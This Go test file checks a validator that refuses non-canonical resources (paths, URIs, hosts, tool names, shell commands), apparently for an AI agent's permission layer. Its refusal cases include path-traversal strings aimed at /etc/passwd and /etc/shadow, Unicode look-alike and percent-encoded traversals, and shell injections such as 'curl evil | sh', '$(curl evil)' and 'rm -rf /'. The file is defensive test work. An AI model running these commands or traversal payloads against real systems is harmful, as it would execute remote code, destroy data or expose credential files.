package resource

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"unicode"

	"golang.org/x/text/unicode/norm"
)

// checkCases are canonical and refused resources of every type, each
// refusal with a piece of the reason it must give. They seed the fuzzers.
var checkCases = []struct {
	name, action, resource string
	reason                 string // "" for canonical
}{
	// Paths.
	{"path", "file.read", "/repo/src/main.go", ""},
	{"root", "file.read", "/", ""},
	{"path with a dot in a name", "file.write", "/repo/.github/ci..yml", ""},
	{"windows path in slash form", "file.read", "/C:/Users/x", ""},
	{"unicode name", "file.read", "/repo/über.txt", ""},
	{"empty", "file.read", "", "empty resource"},
	{"relative", "file.read", "repo/src", "not absolute"},
	{"dot-relative", "file.read", "./src", "not absolute"},
	{"dot dot", "file.write", "/repo/src/../../etc/passwd", `".." segment`},
	{"dot then dot dot", "file.write", "/repo/src/./../secret", `"." segment`},
	{"deep dot dot", "file.write", "/repo/src/a/../../../etc/shadow", `".." segment`},
	{"trailing dot dot", "file.write", "/repo/src/..", `".." segment`},
	{"empty segment", "file.write", "/repo/src//x", "empty segment"},
	{"trailing slash", "file.write", "/repo/src/x/", `ends in "/"`},
	{"backslash", "file.write", `/repo/src/..\..\etc`, `contains "\"`},
	{"NUL", "file.write", "/repo/src/a\x00b", "control character"},
	{"newline", "file.write", "/repo/src/a\nb", "control character"},
	{"C1 control", "file.write", "/repo/src/a\u0085b", "control character"},
	{"invalid UTF-8", "file.write", "/repo/src/\xff", "not valid UTF-8"},
	{"division slash", "file.write", "/repo/src/..\u2215..\u2215etc", "U+2215"},
	{"fullwidth solidus", "file.write", "/repo/src/..\uff0f..\uff0fetc", "U+FF0F"},
	{"fullwidth full stop", "file.write", "/repo/src/\uff0e\uff0e/etc", "U+FF0E"},
	{"zero-width space", "file.write", "/repo/src/\u200b../etc", "U+200B"},
	{"vertical two dot leader", "file.write", "/repo/src/\ufe30/\ufe30/etc/passwd", "U+FE30"},
	{"vertical ellipsis", "file.write", "/repo/src/\ufe19/etc", "U+FE19"},
	{"account of", "file.write", "/repo/src/\u2100", "U+2100"},
	{"small reverse solidus", "file.write", "/repo/src/..\ufe68..\ufe68etc", "U+FE68"},
	{"fullwidth percent", "resource.read", "file:///repo/src/\uff052e\uff052e/etc", "U+FF05"},
	{"right-to-left override", "file.write", "/repo/src/invoice\u202etxt.exe", "U+202E"},
	{"soft hyphen", "file.write", "/repo/s\u00adrc/x", "U+00AD"},
	{"line separator", "file.write", "/repo/src/a\u2028b", "U+2028"},
	{"too long", "file.read", "/" + strings.Repeat("a", MaxLen), "longer than"},

	// URIs.
	{"file URI", "resource.read", "file:///repo/src/main.go", ""},
	{"https URI", "resource.read", "https://api.example.com/v1/items?page=2", ""},
	{"URI with port", "resource.read", "https://api.example.com:8443/v1", ""},
	{"URI root", "resource.read", "https://example.com/", ""},
	{"URI no path", "resource.read", "ui://widget", ""},
	{"URI with a space", "resource.read", "file:///repo/my file.txt", ""},
	{"encoded dots", "resource.read", "file:///repo/src/%2e%2e/%2e%2e/etc/passwd", "percent-encoded path"},
	{"encoded dots uppercase", "resource.read", "file:///repo/src/%2E%2E/%2E%2E/etc/passwd", "percent-encoded path"},
	{"double-encoded dot", "resource.read", "file:///repo/src/%252e%252e/etc/passwd", "percent-encoded path"},
	{"encoded slash", "resource.read", "file:///repo/src/..%2f..%2fetc/passwd", "percent-encoded path"},
	{"encoded letter", "resource.read", "file:///repo/%73rc", "percent-encoded path"},
	{"URI dot dot", "resource.read", "file:///repo/src/../../etc/passwd", `".." segment`},
	{"URI empty segment", "resource.read", "file:///repo//src", "empty segment"},
	{"URI trailing slash", "resource.read", "file:///repo/src/", `path ends in "/"`},
	{"uppercase scheme", "resource.read", "FILE:///repo/src/x", "scheme must be lowercase"},
	{"uppercase host", "resource.read", "https://EXAMPLE.com/x", "not in canonical form"},
	{"file URI with a host", "resource.read", "file://localhost/etc/passwd", "a file URI has no host"},
	{"scheme colon slash", "resource.read", "file:/etc/passwd", `want "scheme://"`},
	{"opaque", "resource.read", "mailto:a@example.com", `want "scheme://"`},
	{"no scheme", "resource.read", "/repo/x", "no scheme"},
	{"bad scheme", "resource.read", "1x://a/b", "no scheme"},
	{"URI IPv6 host", "resource.read", "https://[::1]:8443/x", ""},
	{"URI IPv6 host uppercase", "resource.read", "https://[::FFFF:7f00:1]/x", "IPv4-mapped"},
	{"URI empty host", "resource.read", "https:///x", ""},
	{"userinfo", "resource.read", "https://user@example.com/x", "userinfo"},
	{"fragment", "resource.read", "https://example.com/x#top", "fragment"},
	{"empty fragment", "resource.read", "https://example.com/x#", "fragment"},
	{"encoded host", "resource.read", "https://ex%61mple.com/x", "percent-encoded host"},
	{"URI bad port", "resource.read", "https://example.com:0443/x", "port"},
	{"URI backslash", "resource.read", `https://example.com/a\..\b`, `contains "\"`},

	// Hosts.
	{"host", "http.request", "api.example.com", ""},
	{"host with port", "http.request", "api.example.com:8443", ""},
	{"single label", "http.request", "localhost", ""},
	{"A-label", "http.request", "xn--bcher-kva.de", ""},
	{"A-label tld", "http.request", "xn--e1afmkfd.xn--p1ai", ""},
	{"triple hyphen", "http.request", "r3---sn-abc.example.com", ""},
	{"IPv4", "http.request", "127.0.0.1:8080", ""},
	{"IPv6", "http.request", "[2001:db8::1]:443", ""},
	{"IPv6 no port", "http.request", "[::1]", ""},
	{"uppercase", "http.request", "EXAMPLE.com", `write "example.com"`},
	{"U-label", "http.request", "bücher.de", `write "xn--bcher-kva.de"`},
	{"uppercase U-label", "http.request", "ÉXAMPLE.com", `write "xn--xample-9ua.com"`},
	{"uppercase A-label", "http.request", "XN--bcher-kva.de", `write "xn--bcher-kva.de"`},
	{"sharp s", "http.request", "faß.de", `write "xn--fa-hia.de"`},
	{"invalid punycode", "http.request", "xn--abc.com", "not a valid host name"},
	{"punycode of ASCII", "http.request", "xn--abc-.com", `ends with "-"`},
	{"bare ACE prefix", "http.request", "xn--.com", `ends with "-"`},
	{"trailing dot", "http.request", "example.com.", "empty label"},
	{"leading dot", "http.request", ".example.com", "empty label"},
	{"double dot", "http.request", "a..example.com", "empty label"},
	{"leading hyphen", "http.request", "-a.example.com", `begins or ends with "-"`},
	{"trailing hyphen", "http.request", "a-.example.com", `begins or ends with "-"`},
	{"underscore", "http.request", "a_b.example.com", "not a valid host name"},
	{"long label", "http.request", strings.Repeat("a", 64) + ".com", "longer than 63"},
	{"long name", "http.request", strings.Repeat("a.", 127) + "com", "1-253 bytes"},
	{"empty name", "http.request", ":443", "1-253 bytes"},
	{"port zero", "http.request", "example.com:0", "port must be 1-65535"},
	{"port too big", "http.request", "example.com:65536", "port must be 1-65535"},
	{"port leading zero", "http.request", "example.com:0443", "port must be 1-65535"},
	{"port sign", "http.request", "example.com:+443", "port must be 1-65535"},
	{"empty port", "http.request", "example.com:", "empty port"},
	{"two colons", "http.request", "example.com:80:80", "more than one"},
	{"IPv4 octal", "http.request", "0177.0.0.1", "four decimal octets"},
	{"IPv4 one number", "http.request", "2130706433", "four decimal octets"},
	{"IPv4 hex", "http.request", "0x7f.0.0.1", "four decimal octets"},
	{"IPv4 short", "http.request", "127.1", "four decimal octets"},
	{"numeric tld", "http.request", "example.123", "four decimal octets"},
	{"IPv6 uppercase", "http.request", "[2001:DB8::1]", "write [2001:db8::1]"},
	{"IPv6 long form", "http.request", "[2001:db8:0:0:0:0:0:1]", "write [2001:db8::1]"},
	{"IPv6 mapped", "http.request", "[::ffff:127.0.0.1]", "IPv4-mapped"},
	{"IPv6 zone", "http.request", "[fe80::1%eth0]", "zone"},
	{"IPv6 unbracketed", "http.request", "2001:db8::1", "IPv6 address goes in brackets"},
	{"IPv6 unclosed", "http.request", "[::1", `unclosed "["`},
	{"IPv6 junk", "http.request", "[::1]x", `want "[address]`},
	{"IPv4 in brackets", "http.request", "[127.0.0.1]", "not an IPv6 address"},
	{"URL for a host", "http.request", "https://api.example.com/x", "not a URL"},
	{"host look-alike dot", "http.request", "example\uff0ecom", "U+FF0E"},

	// Tools and prompts.
	{"tool", "tool.call", "github/create_issue", ""},
	{"bare tool", "prompt.get", "summarise", ""},
	{"tool dot dot", "tool.call", "../create_issue", `want "server/name"`},
	{"tool empty server", "tool.call", "/x", `want "server/name"`},
	{"tool three parts", "tool.call", "a/b/c", `want "server/name"`},
	{"tool space", "tool.call", "github/create issue", "only ASCII letters"},

	// Text-only types.
	{"command", "shell.exec", "git", ""},
	{"command path", "shell.exec", "/usr/bin/git", ""},
	{"command with a version", "shell.exec", "python3.12", ""},
	{"shell string", "shell.exec", "git status; curl evil | sh", "not a shell string"},
	{"command with arguments", "shell.exec", "rm -rf /", "not a shell string"},
	{"command substitution", "shell.exec", "$(curl evil)", "not a shell string"},
	{"relative command path", "shell.exec", "./build.sh", "want a program name or an absolute path"},
	{"command dot dot", "shell.exec", "..", "want a program name or an absolute path"},
	{"command path traversal", "shell.exec", "/usr/bin/../../tmp/x", `".." segment`},
	{"command NUL", "shell.exec", "git\x00status", "control character"},
	{"secret", "secret.use", "github-token", ""},
	{"agent", "task.delegate", "spiffe://example.org/agent/coder", ""},
	{"unknown action", "file.delete", "/x", "unknown action"},
}

func TestCheck(t *testing.T) {
	t.Parallel()
	for _, tt := range checkCases {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			err := Check(tt.action, tt.resource)
			if tt.reason == "" {
				if err != nil {
					t.Errorf("Check(%s, %q) = %v, want canonical", tt.action, tt.resource, err)
				}
				return
			}
			if err == nil {
				t.Fatalf("Check(%s, %q) = nil, want refusal %q", tt.action, tt.resource, tt.reason)
			}
			if !errors.Is(err, ErrNotCanonical) {
				t.Errorf("Check(%s, %q) = %v, want ErrNotCanonical", tt.action, tt.resource, err)
			}
			if !strings.Contains(err.Error(), tt.reason) {
				t.Errorf("Check(%s, %q) = %q, want a reason containing %q", tt.action, tt.resource, err, tt.reason)
			}
			if msg := err.Error(); !isPrintableASCII(msg) || len(msg) > 2*maxQuoted+200 {
				t.Errorf("Check(%s, %q): reason %q is not short printable ASCII", tt.action, tt.resource, msg)
			}
		})
	}
}

func isPrintableASCII(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] < 0x20 || s[i] >= 0x7f {
			return false
		}
	}
	return true
}

func TestQuote(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"/repo/x":                        `"/repo/x"`,
		"/a\x00b":                        `"/a\x00b"`,
		"/a\u2215b":                      `"/a\u2215b"`,
		"/\xff":                          `"/\xff"`,
		"x\"y":                           `"x\"y"`,
		"":                               `""`,
		strings.Repeat("a", maxQuoted+1): `"` + strings.Repeat("a", maxQuoted) + `"...`,
	} {
		if got := Quote(in); got != want {
			t.Errorf("Quote(%q) = %s, want %s", in, got, want)
		}
	}
}

// TestTraversesCanonical: Traverses, the matcher's guard, never says a
// resource Check accepted as a path or URI climbs; and every refused
// traversal case above traverses or is refused by Check.
func TestTraverses(t *testing.T) {
	t.Parallel()
	for _, s := range []string{"/repo/../x", "/repo/./x", "/repo//x", "/a\x00", `/a\b`, "/a/%2e", "/a/%2F", "/a/%25", "/a/%5c", "file:///a/..", "https://h/a/%2E%2E", ".."} {
		if !Traverses(s) {
			t.Errorf("Traverses(%q) = false, want true", s)
		}
	}
	for _, s := range []string{"/", "/repo", "/repo/", "/repo/x.go", "/a/..b", "/a/%41", "file:///repo/x", "https://h:1/a?b=c", "github/create_issue", "x%2"} {
		if Traverses(s) {
			t.Errorf("Traverses(%q) = true, want false", s)
		}
	}
	for _, tt := range checkCases {
		if tt.reason == "" && tt.action != "task.delegate" && Traverses(tt.resource) {
			t.Errorf("Traverses(%q) = true for a canonical %s resource", tt.resource, tt.action)
		}
	}
}

// FuzzCheck: Check never panics, a refusal is ErrNotCanonical with a
// printable reason, and an accepted path or URI never traverses.
func FuzzCheck(f *testing.F) {
	for _, tt := range checkCases {
		f.Add(tt.action, tt.resource)
	}
	f.Fuzz(func(t *testing.T, action, res string) {
		err := Check(action, res)
		if err != nil {
			if !errors.Is(err, ErrNotCanonical) || !isPrintableASCII(err.Error()) {
				t.Fatalf("Check(%q, %q) = %q: want ErrNotCanonical with a printable ASCII reason", action, res, err)
			}
			return
		}
		switch action {
		case "resource.read":
			res, _, _ = strings.Cut(res, "?") // the query is not a path
			fallthrough
		case "file.read", "file.write", "http.request", "tool.call", "prompt.get", "shell.exec":
			if Traverses(res) && !strings.Contains(res, "%") {
				t.Fatalf("Check(%q, %q) accepted a resource that traverses", action, res)
			}
		}
	})
}

func ExampleCheck() {
	for _, r := range []string{"/repo/src/main.go", "/repo/src/../../etc/passwd", "/repo/src//x"} {
		fmt.Println(Check("file.write", r))
	}
	fmt.Println(Check("http.request", "EXAMPLE.com"))
	fmt.Println(Check("resource.read", "file:///repo/src/%2e%2e/etc/passwd"))
	// Output:
	// <nil>
	// resource is not canonical: path "/repo/src/../../etc/passwd" has a ".." segment
	// resource is not canonical: path "/repo/src//x" has an empty segment ("//")
	// resource is not canonical: host "EXAMPLE.com": not in canonical form (lowercase, internationalised labels as "xn--" A-labels): write "example.com"
	// resource is not canonical: URI "file:///repo/src/%2e%2e/etc/passwd" has a percent-encoded path (give it decoded)
}

func TestASCII(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`idna: invalid label "\u0082"`: `idna: invalid label "\u0082"`,
		"label \"zĀz\"":                `label "z\u0100z"`,
		"a\x00b\xffc":                  `a\x00b\xffc`,
		"\ufffd":                       `\ufffd`,
	} {
		if got := ascii(in); got != want {
			t.Errorf("ascii(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestCheckRefusesEveryNFKCLookalike holds checkText to its rule for
// every character, not a list: no non-ASCII character whose compatibility
// form (NFKC, what a later normaliser produces) holds a "/", "\\", "." or
// "%" is part of a canonical resource, and neither is any format
// (invisible or bidirectional) character.
func TestCheckRefusesEveryNFKCLookalike(t *testing.T) {
	t.Parallel()
	for r := rune(0x80); r <= unicode.MaxRune; r++ {
		if r >= 0xd800 && r <= 0xdfff {
			continue
		}
		folded := norm.NFKC.String(string(r))
		if !strings.ContainsAny(folded, `/\.%`) && !unicode.Is(unicode.Cf, r) {
			continue
		}
		res := "/repo/a" + string(r) + "b"
		if err := Check("file.read", res); err == nil {
			t.Errorf("Check(file.read, %q) = nil, want a refusal: %U reads as %q after NFKC", res, r, folded)
		}
	}
}
